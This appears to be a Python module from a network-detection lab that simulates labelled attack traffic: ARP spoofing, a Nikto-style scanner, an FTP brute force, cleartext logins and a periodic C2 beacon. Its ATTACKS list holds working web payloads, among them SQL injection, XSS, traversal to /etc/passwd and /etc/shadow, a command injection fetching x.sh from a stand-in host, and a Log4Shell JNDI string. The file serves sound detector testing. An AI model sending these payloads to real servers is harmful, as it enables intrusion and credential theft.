"""Spoofed ARP, attacks on web servers, guessed passwords, passwords in the clear, a beacon."""

from __future__ import annotations

import base64
from typing import TYPE_CHECKING

from netwatch.lab.scenarios.conversation import Connection, arp, arp_exchange, http

if TYPE_CHECKING:
    from netwatch.lab.scenarios.scene import Scene

PAGE = b"HTTP/1.1 200 OK\r\nServer: demo\r\nContent-Type: text/html\r\nContent-Length: 12\r\n\r\n<p>hello</p>"
MISSING = b"HTTP/1.1 404 Not Found\r\nServer: demo\r\nContent-Length: 0\r\n\r\n"
ATTACKS = (
    ("http.sqli", "/item?id=1%27%20or%20%271%27=%271"),
    ("http.sqli", "/item?id=1%20UNION%20ALL%20SELECT%20user,password%20FROM%20users--"),
    ("http.sqli", "/item?id=1;waitfor%20delay%20%270:0:5%27"),
    ("http.xss", "/search?q=%3Cscript%3Ealert(1)%3C/script%3E"),
    ("http.xss", "/search?q=%3Csvg%20onload=alert(1)%3E"),
    ("http.traversal", "/get?file=../../../../etc/passwd"),
    ("http.traversal", "/get?file=..%252f..%252f..%252fetc%252fshadow"),
    ("http.rce", "/cgi?host=127.0.0.1;wget%20http://203.0.113.9/x.sh"),
    ("http.rce", "/?x=$%7Bjndi:ldap://203.0.113.9/a%7D"),
)


def arp_spoof(scene: Scene) -> None:
    """Answer for gateway and victim, again and again, while both are alive."""
    for address in (scene.gateway, scene.victim, scene.attacker, scene.client):
        arp_exchange(scene, scene.host(30), address)
        scene.wait(0.5)
    mac = scene.mac(scene.attacker)
    what = "ARP spoofing of gateway and victim"
    ends = [scene.label(("arp.spoof",), scene.attacker, host, what, "arp.*") for host in (scene.gateway, scene.victim)]
    with ends[0], ends[1]:
        for _ in range(30):
            arp(scene, 2, (mac, scene.gateway), (scene.mac(scene.victim), scene.victim), scene.mac(scene.victim))
            scene.wait(0.1)
            arp(scene, 2, (mac, scene.victim), (scene.mac(scene.gateway), scene.gateway), scene.mac(scene.gateway))
            scene.wait(0.4)
            arp_exchange(scene, scene.client, scene.gateway)
            scene.wait(1.5, 0.2)


def http_attacks(scene: Scene) -> None:
    """Attack a web server: SQL injection, cross-site scripting, traversal, commands."""
    for detector, path in ATTACKS:
        with scene.label((detector,), scene.attacker, scene.victim, path, "http.*", "sig.*"):
            http(scene, scene.attacker, scene.victim, _get(path, "Mozilla/5.0 (X11; Linux x86_64)"), PAGE)
        scene.wait(3, 0.5)


def http_scanner(scene: Scene) -> None:
    """Ask a web server for 45 pages that it does not have, as a scanner that says its name."""
    with scene.label(("http.scanner",), scene.attacker, scene.victim, "scanner", "http.*", "sig.*"):
        for number in range(45):
            http(
                scene, scene.attacker, scene.victim, _get(f"/admin{number}.php", "Mozilla/5.00 (Nikto/2.5.0)"), MISSING
            )
            scene.wait(0.4, 0.5)


def beacon(scene: Scene) -> None:
    """Connect to one server every 60 seconds, give or take a tenth, for an hour."""
    server = "203.0.113.99"
    with scene.label(("c2.beacon",), scene.client, server, "beacon every 60 s", "http.*", "new.*"):
        for _ in range(60):
            path = f"/poll?i={scene.draw.getrandbits(24):06x}"
            http(scene, scene.client, server, _get(path, "Mozilla/4.0"), PAGE)
            scene.wait(60, 0.1)


def brute_force(scene: Scene) -> None:
    """Guess thirty wrong passwords of FTP within two minutes, then the right one."""
    also = ("cred.*", "tcp.*", "sig.*")
    with scene.label(("brute.ftp",), scene.attacker, scene.victim, "FTP passwords guessed", "brute.*", *also):
        for number in range(31):
            right = number == 30
            talk = Connection(scene, scene.attacker, scene.victim, 21).open().answer(b"220 demo FTP\r\n")
            talk.say(b"USER admin\r\n").answer(b"331 Password required\r\n")
            talk.say(b"PASS " + (b"letmein" if right else b"wrong%03d" % number) + b"\r\n")
            talk.answer(b"230 Logged in\r\n" if right else b"530 Login incorrect\r\n")
            talk.say(b"QUIT\r\n").answer(b"221 Bye\r\n").close()
            scene.wait(3, 0.5)


def cleartext(scene: Scene) -> None:
    """Send passwords that anybody on the way can read: FTP, HTTP Basic, POP3 and Telnet."""
    with scene.label(("cred.clear",), scene.client, scene.victim, "FTP password", "cred.*"):
        talk = Connection(scene, scene.client, scene.victim, 21).open().answer(b"220 demo FTP\r\n")
        talk.say(b"USER alice\r\n").answer(b"331 Password required\r\n")
        talk.say(b"PASS correct horse\r\n").answer(b"230 Logged in\r\n").say(b"QUIT\r\n").answer(b"221 Bye\r\n").close()
    scene.wait(20)
    basic = base64.b64encode(b"alice:battery staple")
    with scene.label(("cred.clear",), scene.client, scene.host(11), "HTTP Basic password", "cred.*"):
        request = b"GET /mail HTTP/1.1\r\nHost: intranet.example\r\nAuthorization: Basic " + basic + b"\r\n\r\n"
        http(scene, scene.client, scene.host(11), request, PAGE)
    scene.wait(20)
    with scene.label(("cred.clear",), scene.client, scene.host(12), "POP3 password", "cred.*"):
        talk = Connection(scene, scene.client, scene.host(12), 110).open().answer(b"+OK demo POP3\r\n")
        talk.say(b"USER alice\r\n").answer(b"+OK\r\n").say(b"PASS tr0ub4dor\r\n").answer(b"+OK 2 messages\r\n")
        talk.say(b"QUIT\r\n").answer(b"+OK bye\r\n").close()
    scene.wait(20)
    with scene.label(("cred.clear",), scene.client, scene.host(13), "Telnet password", "cred.*", "port.*"):
        talk = Connection(scene, scene.client, scene.host(13), 23).open().answer(b"\r\nrouter login: ")
        talk.say(b"admin\r\n").answer(b"Password: ").say(b"hunter2\r\n").answer(b"\r\nrouter> ")
        talk.say(b"exit\r\n").answer(b"bye\r\n").close()


def _get(path: str, agent: str) -> bytes:
    return f"GET {path} HTTP/1.1\r\nHost: shop.example\r\nUser-Agent: {agent}\r\nAccept: */*\r\n\r\n".encode()
